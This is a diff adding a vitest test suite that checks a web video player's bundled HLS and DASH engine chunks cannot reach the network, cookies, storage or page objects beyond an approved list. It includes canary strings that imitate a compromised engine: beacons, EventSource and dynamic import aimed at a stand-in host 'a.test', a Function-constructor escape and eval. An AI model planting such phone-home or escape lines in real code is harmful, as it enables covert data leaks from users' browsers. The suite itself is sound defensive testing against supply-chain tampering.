@@ -1,0 +1,127 @@
+import { existsSync, readFileSync, readdirSync } from 'node:fs';
+import { describe, expect, it } from 'vitest';
+import { languageNames } from '../../rollup.seal.mjs';
+import { doors, harmless, members, taken, waysBack } from './census.js';
+import { reachOf } from './scan.js';
+
+const dist = new URL(process.env.JET_ROOT ? `file://${process.env.JET_ROOT}/dist/` : '../../dist/', import.meta.url);
+const read = (file: string) => readFileSync(new URL(file, dist), 'utf8');
+const present = existsSync(new URL('chunks/', dist)) ? readdirSync(new URL('chunks/', dist)) : [];
+
+/** A file and all that it imports, now or later; what an earlier build left behind is not among them. */
+function withImports(file: string, known: Set<string> = new Set()): Set<string> {
+  if (known.has(file)) return known;
+  const text = read(file);
+  known.add(file);
+  for (const name of present) if (text.includes(`/${name}`)) withImports(`chunks/${name}`, known);
+  return known;
+}
+
+const engines = ['hls', 'dash'];
+const shipped = [...new Set(['jet-player.js', 'media.js', 'policy.js'].flatMap((file) => [...withImports(file)]))].sort();
+const isEngine = (file: string) => engines.some((engine) => file.startsWith(`chunks/${engine}-`));
+const chunkOf = (engine: string) => shipped.find((file) => file.startsWith(`chunks/${engine}-`)) ?? `chunks/${engine}-missing`;
+/** Everything a page may load that is not an engine. */
+const core = shipped.filter((file) => !isEngine(file));
+
+/** What an engine's code reaches beyond what is written down; empty for a sealed one. */
+function escapes(engine: string, code: string): string[] {
+  const reach = reachOf(code);
+  const beyond = (names: readonly string[], known: readonly string[] = []) => names.filter((name) => !known.includes(name));
+  return [
+    ...reach.free.filter((name) => !languageNames.has(name)),
+    ...beyond(reach.taken, taken[engine]),
+    ...beyond(reach.members, members[engine]),
+    ...waysBack.filter(({ pattern, counts }) => (code.match(pattern)?.length ?? 0) > counts[engine]!).map(({ pattern }) => pattern.source)
+  ];
+}
+
+/** The doors that our own code has, but for the guard's one `fetch`. */
+function openDoors(code: string): string[] {
+  const { free, members: named } = reachOf(code);
+  return [
+    ...free.filter((name) => !languageNames.has(name) && !harmless.has(name)),
+    ...named.filter((name) => doors.test(name) && name !== 'window.fetch')
+  ];
+}
+
+/** What a later release of an engine might bring: ways to phone home, and ways to get hold of the page. */
+const doctored = [
+  'navigator.sendBeacon("https://a.test/")',
+  'new EventSource("https://a.test/")',
+  '(() => {}).constructor("return this")()',
+  'import("https://a.test/")',
+  'function f(e) { return e.ownerDocument }',
+  '(0, eval)("1")'
+];
+
+// The engines are large, and to take them apart is seconds of work on a small machine.
+describe.each(engines)('the sealed chunk of %s', { timeout: 240_000 }, (engine) => {
+  const code = read(chunkOf(engine));
+  const reach = reachOf(code);
+
+  it('has no free identifier but those of the language', () => {
+    expect(reach.free.filter((name) => !languageNames.has(name))).toEqual([]);
+  });
+
+  it('takes from its realm exactly what is written down', () => {
+    expect(reach.taken).toEqual(taken[engine]);
+  });
+
+  it('names of its global object, document and navigator exactly what is written down', () => {
+    expect(reach.members).toEqual(members[engine]);
+  });
+
+  it.each(waysBack.map((way) => [way.pattern.source, way] as const))(
+    'has no way back to the page: %s',
+    (_, { pattern, counts, reason }) => {
+      expect(code.match(pattern)?.length ?? 0, reason).toBe(counts[engine]);
+    }
+  );
+
+  it('canary: doctored, it is caught, and by name', () => {
+    const found = escapes(engine, [code, ...doctored].join(';'));
+    expect(escapes(engine, code)).toEqual([]);
+    for (const name of ['navigator', 'EventSource', 'constructor', 'import', 'ownerDocument', 'eval'])
+      expect(found.join(' ')).toContain(name);
+    expect(found.length).toBeGreaterThanOrEqual(doctored.length);
+  });
+
+  it('canary: a capability asked of the realm is caught by its name', () => {
+    const realm = /const\s*\{(?=[^}]*\bself\b)(?=[^}]*\bXMLHttpRequest\b)/;
+    expect(escapes(engine, code.replace(realm, '$&EventSource:EventSource$,'))).toEqual(['EventSource']);
+  });
+});
+
+describe('all that is not an engine', { timeout: 240_000 }, () => {
+  it.each(core)('%s takes nothing from the page that contacts or remembers', (file) => {
+    expect(openDoors(read(file))).toEqual([]);
+  });
+
+  it('has one way to the network, and that is the guard', () => {
+    expect(core.flatMap((file) => read(file).match(/\bglobalThis\.fetch\b/g) ?? [])).toEqual(['globalThis.fetch']);
+    expect(core.filter((file) => reachOf(read(file)).members.includes('window.fetch'))).toHaveLength(1);
+  });
+
+  it.each([
+    ['a bare fetch', 'fetch("https://a.test/")', 'fetch'],
+    ['a picture', 'new Image().src = "https://a.test/"', 'Image'],
+    ['a beacon', 'navigator.sendBeacon("https://a.test/")', 'navigator.sendBeacon'],
+    ['a store', 'globalThis.localStorage.x = 1', 'window.localStorage'],
+    ['a cookie', 'document.cookie = "a=1"', 'document.cookie']
+  ])('canary: %s is caught', (_, doctored, name) => {
+    expect(openDoors(`${read('jet-player.js')};${doctored}`)).toEqual([name]);
+  });
+});
+
+describe('the single script', () => {
+  const reach = reachOf(read('jet-player.bundle.js'));
+
+  it('has no free identifier but the language and what is harmless', () => {
+    expect(reach.free.filter((name) => !languageNames.has(name) && !harmless.has(name))).toEqual([]);
+  });
+
+  it('carries both engines as sealed as the chunks', () => {
+    expect(reach.taken).toEqual([...new Set([...taken.hls!, ...taken.dash!])].sort());
+  });
+});
